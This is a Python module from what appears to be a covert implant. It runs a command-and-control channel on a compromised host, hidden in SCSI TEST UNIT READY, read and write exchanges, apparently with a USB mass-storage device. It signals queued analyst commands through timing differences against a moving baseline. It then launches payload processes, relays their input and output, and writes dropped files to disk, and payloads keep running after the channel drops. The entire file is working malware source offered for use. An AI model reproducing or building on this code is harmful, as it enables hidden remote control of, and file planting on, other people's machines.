"""Compromised-side channel and datagram management.

The channel loop is the sole issuer of transport exchanges.  Every poll
interval it sends a covert TEST UNIT READY and compares the round-trip
time against an EWMA baseline; a response landing more than the detect
margin above baseline, confirmed by an immediate re-poll, means the
analyst has queued a command, which is then fetched with covert reads
until the queue is dry.  Session output and file acknowledgements flow
back through covert writes.

Payload processes relay their stdout through a bounded internal queue
(many producers, single channel-loop consumer), so a chatty payload blocks
rather than ballooning memory.
"""

from __future__ import annotations

import enum
import logging
import queue
import struct
import threading
import time
from dataclasses import dataclass

from .datagram import (MAX_PAYLOAD, Datagram, DatagramType, blocks_needed,
                       chunk_payload, decode_stream, pack_blocks)
from .errors import (CrcMismatch, DuplicateSession, MsdChanError,
                     OutOfOrderChunk, ProcessExited, SpawnFailed,
                     TransportClosed)
from .payloads import FileReceipt, FileSink, PayloadHost
from .scsi import BLOCK_SIZE, Cdb, mark_covert
from .transport import ScsiExchange, Transport

log = logging.getLogger(__name__)

EWMA_ALPHA = 0.2
FILE_END_PAYLOAD = struct.Struct(">IQ")  # crc32, total size


@dataclass
class ChannelConfig:
    poll_interval_ms: float = 500.0
    detect_margin_ms: float = 20.0
    fetch_blocks: int = 8
    max_write_blocks: int = 64
    outbound_queue_limit: int = 1024


class SessionState(enum.Enum):
    OPENING = "opening"
    ACTIVE = "active"
    CLOSED = "closed"


@dataclass
class Session:
    session_id: int
    payload_spec: str
    state: SessionState = SessionState.OPENING
    next_seq_out: int = 0
    expected_seq_in: int = 0


@dataclass(frozen=True)
class PollObservation:
    rtt_ms: float
    baseline_ewma_ms: float
    pending: bool


class CovertChannel:
    """Poll / fetch / send primitives over one transport handle."""

    def __init__(self, transport: Transport, config: ChannelConfig | None = None):
        self.transport = transport
        self.config = config or ChannelConfig()
        self.baseline_ewma_ms: float | None = None

    def _poll_rtt_ms(self) -> float:
        cdb = mark_covert(Cdb.test_unit_ready())
        _, elapsed = self.transport.submit(ScsiExchange(cdb))
        return elapsed * 1000.0

    def poll_once(self) -> PollObservation:
        rtt_ms = self._poll_rtt_ms()
        if self.baseline_ewma_ms is None:
            # First observation seeds the baseline and is never pending.
            self.baseline_ewma_ms = rtt_ms
            return PollObservation(rtt_ms, rtt_ms, False)
        threshold = self.baseline_ewma_ms + self.config.detect_margin_ms
        if rtt_ms > threshold:
            # A queued command keeps delaying every poll until it is
            # fetched, so a genuine signal repeats on an immediate re-poll;
            # a one-off scheduler or transport stall does not.
            confirm_ms = self._poll_rtt_ms()
            if confirm_ms > threshold:
                return PollObservation(confirm_ms, self.baseline_ewma_ms, True)
            # the slow poll was noise; keep only the clean confirmation
            rtt_ms = confirm_ms
        self.baseline_ewma_ms = (EWMA_ALPHA * rtt_ms
                                 + (1 - EWMA_ALPHA) * self.baseline_ewma_ms)
        return PollObservation(rtt_ms, self.baseline_ewma_ms, False)

    def fetch_commands(self) -> list[Datagram]:
        cdb = mark_covert(Cdb.read_10(0, self.config.fetch_blocks))
        resp, _ = self.transport.submit(ScsiExchange(cdb))
        return decode_stream(resp.data_in)

    def send_results(self, datagrams: list[Datagram]):
        if not datagrams:
            return
        nblocks = blocks_needed(datagrams)
        if nblocks > self.config.max_write_blocks:
            raise ValueError(
                f"batch needs {nblocks} blocks, cap {self.config.max_write_blocks}")
        data = pack_blocks(datagrams, nblocks * BLOCK_SIZE)
        cdb = mark_covert(Cdb.write_10(0, nblocks))
        self.transport.submit(ScsiExchange(cdb, data))

    def close(self):
        self.transport.close()


class ImplantRuntime:
    """Channel loop plus session/payload/file multiplexing."""

    def __init__(self, transport: Transport, drop_dir: str,
                 config: ChannelConfig | None = None, max_sessions: int = 16):
        self.config = config or ChannelConfig()
        self.channel = CovertChannel(transport, self.config)
        self.payload_host = PayloadHost(drop_dir, max_sessions=max_sessions,
                                        on_output=self._on_payload_output)
        self._outbound: queue.Queue[Datagram] = queue.Queue(
            maxsize=self.config.outbound_queue_limit)
        self._sessions: dict[int, Session] = {}
        self._sessions_lock = threading.Lock()
        self._sinks: dict[int, FileSink] = {}
        self.file_receipts: dict[int, FileReceipt] = {}
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None
        self.channel_down = False

    # --- lifecycle ---

    def start(self):
        self._thread = threading.Thread(target=self._loop,
                                        name="channel-loop", daemon=True)
        self._thread.start()

    def stop(self):
        self._stop.set()
        if self._thread:
            self._thread.join(timeout=10)
        self.payload_host.shutdown()
        self.channel.close()

    def _loop(self):
        interval = self.config.poll_interval_ms / 1000.0
        next_poll = time.monotonic()
        while not self._stop.is_set():
            now = time.monotonic()
            if now < next_poll:
                # use the idle gap to push out any pending session output
                if not self._flush_outbound(wait=min(interval / 4,
                                                     next_poll - now)):
                    return
                continue
            next_poll = now + interval
            try:
                obs = self.channel.poll_once()
                if obs.pending:
                    while not self._stop.is_set():
                        commands = self.channel.fetch_commands()
                        if not commands:
                            break
                        for d in commands:
                            self._dispatch(d)
                        if not self._flush_outbound(wait=0):
                            return
                if not self._flush_outbound(wait=0):
                    return
            except TransportClosed:
                log.warning("covert channel lost; payloads keep running")
                self.channel_down = True
                return

    def _flush_outbound(self, wait: float) -> bool:
        """Drain the internal queue into covert writes. False on channel loss."""
        capacity = self.config.max_write_blocks * BLOCK_SIZE
        while True:
            batch: list[Datagram] = []
            used = 0
            try:
                first = self._outbound.get(timeout=wait) if wait else \
                    self._outbound.get_nowait()
            except queue.Empty:
                return True
            batch.append(first)
            used += first.wire_size
            while used < capacity:
                try:
                    nxt = self._outbound.queue[0]  # peek
                except IndexError:
                    break
                if used + nxt.wire_size > capacity:
                    break
                batch.append(self._outbound.get_nowait())
                used += nxt.wire_size
            try:
                self.channel.send_results(batch)
            except TransportClosed:
                self.channel_down = True
                return False
            wait = 0

    # --- outbound helpers (any thread) ---

    def _enqueue_out(self, d: Datagram):
        self._outbound.put(d)

    def _session_datagram(self, session: Session, dtype: DatagramType,
                          payload: bytes = b"") -> Datagram:
        with self._sessions_lock:
            seq = session.next_seq_out
            session.next_seq_out = (seq + 1) & 0xFFFF
        return Datagram(dtype, session.session_id, seq, payload)

    def _send_error(self, session_id: int, message: str):
        self._enqueue_out(Datagram(DatagramType.ERROR, session_id, 0,
                                   message.encode()[:MAX_PAYLOAD]))

    # --- payload output (reader threads) ---

    def _on_payload_output(self, session_id: int, chunk: bytes | None):
        with self._sessions_lock:
            session = self._sessions.get(session_id)
        if session is None:
            return
        if chunk is None:
            self._finish_session(session)
            return
        for piece in chunk_payload(chunk):
            self._enqueue_out(self._session_datagram(
                session, DatagramType.DATA, piece))

    def _finish_session(self, session: Session):
        with self._sessions_lock:
            if session.state is SessionState.CLOSED:
                return
            session.state = SessionState.CLOSED
        proc = self.payload_host.get(session.session_id)
        status = proc.exit_status if proc else None
        self.payload_host.discard(session.session_id)
        self._enqueue_out(self._session_datagram(
            session, DatagramType.CLOSE,
            b"" if status is None else str(status).encode()))

    # --- inbound dispatch (channel loop thread) ---

    def _dispatch(self, d: Datagram):
        try:
            if d.dtype == DatagramType.OPEN:
                self._handle_open(d)
            elif d.dtype == DatagramType.DATA:
                self._handle_data(d)
            elif d.dtype == DatagramType.CLOSE:
                self._handle_close(d)
            elif d.dtype == DatagramType.FILE_BEGIN:
                self._handle_file_begin(d)
            elif d.dtype == DatagramType.FILE_CHUNK:
                self._handle_file_chunk(d)
            elif d.dtype == DatagramType.FILE_END:
                self._handle_file_end(d)
            else:
                log.warning("ignoring inbound %s", d.dtype.name)
        except MsdChanError as e:
            self._send_error(d.session_id, f"{type(e).__name__}: {e}")

    def _handle_open(self, d: Datagram):
        spec = d.payload.decode(errors="replace")
        with self._sessions_lock:
            if d.session_id in self._sessions and \
                    self._sessions[d.session_id].state is not SessionState.CLOSED:
                raise DuplicateSession(f"session {d.session_id} already open")
            session = Session(d.session_id, spec,
                              expected_seq_in=(d.seq + 1) & 0xFFFF)
            self._sessions[d.session_id] = session
        try:
            self.payload_host.launch(spec, d.session_id)
        except (SpawnFailed, DuplicateSession):
            with self._sessions_lock:
                session.state = SessionState.CLOSED
            raise
        with self._sessions_lock:
            session.state = SessionState.ACTIVE
        self._enqueue_out(self._session_datagram(
            session, DatagramType.OPEN, f"opened {spec}".encode()[:MAX_PAYLOAD]))

    def _get_session(self, d: Datagram) -> Session:
        with self._sessions_lock:
            session = self._sessions.get(d.session_id)
        if session is None:
            raise ProcessExited(f"unknown session {d.session_id}")
        if d.seq != session.expected_seq_in:
            raise ProcessExited(
                f"session {d.session_id} seq gap: expected "
                f"{session.expected_seq_in}, got {d.seq}")
        session.expected_seq_in = (d.seq + 1) & 0xFFFF
        return session

    def _handle_data(self, d: Datagram):
        session = self._get_session(d)
        if session.state is SessionState.CLOSED:
            raise ProcessExited(f"session {d.session_id} is closed")
        self.payload_host.write_stdin(d.session_id, d.payload)

    def _handle_close(self, d: Datagram):
        session = self._get_session(d)
        if session.state is SessionState.CLOSED:
            return
        # terminate triggers the reader's end-of-stream callback, which
        # emits the single CLOSE echo for the session
        self.payload_host.terminate(d.session_id)

    def _handle_file_begin(self, d: Datagram):
        name = d.payload.decode(errors="replace")
        old = self._sinks.pop(d.session_id, None)
        if old is not None:
            old.abort()
        self._sinks[d.session_id] = FileSink(self.payload_host.drop_dir,
                                             name, d.seq)

    def _sink_for(self, d: Datagram) -> FileSink:
        sink = self._sinks.get(d.session_id)
        if sink is None:
            raise OutOfOrderChunk(
                f"no transfer in progress for id {d.session_id}")
        return sink

    def _handle_file_chunk(self, d: Datagram):
        sink = self._sink_for(d)
        try:
            sink.chunk(d.seq, d.payload)
        except OutOfOrderChunk:
            del self._sinks[d.session_id]
            raise

    def _handle_file_end(self, d: Datagram):
        sink = self._sink_for(d)
        del self._sinks[d.session_id]
        crc, size = FILE_END_PAYLOAD.unpack(d.payload)
        try:
            receipt = sink.end(d.seq, crc)
        except (CrcMismatch, OutOfOrderChunk):
            raise
        if receipt.bytes_written != size:
            raise CrcMismatch(
                f"size mismatch: wrote {receipt.bytes_written}, expected {size}")
        self.file_receipts[d.session_id] = receipt
        self._enqueue_out(Datagram(
            DatagramType.FILE_END, d.session_id, 0,
            FILE_END_PAYLOAD.pack(receipt.crc32, receipt.bytes_written)))
